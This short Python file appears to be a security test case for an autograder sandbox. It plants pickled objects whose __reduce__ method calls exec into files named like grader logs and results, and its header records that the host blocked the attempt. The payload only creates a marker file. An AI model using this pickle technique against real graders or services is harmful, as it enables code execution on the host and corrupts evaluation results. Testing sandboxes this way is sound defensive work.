# /// attack
# tries = "code in the grader by a pickle where it looks for logs and results"
# layer = "another process"
# stopped_by = "the host unpickles nothing, and no file leaves the jail"
# statuses = { scale = "failed" }
# ///
import pickle


class Runs:
    def __reduce__(self):
        return exec, ("open('/tmp/autograder-was-here', 'w').close()",)


for name in (".OTTER_LOG", "results.pkl", ".otter_results.pkl", "grades.dill"):
    with open(name, "wb") as file:
        pickle.dump([Runs()], file)


def scale(x):
    return Runs()
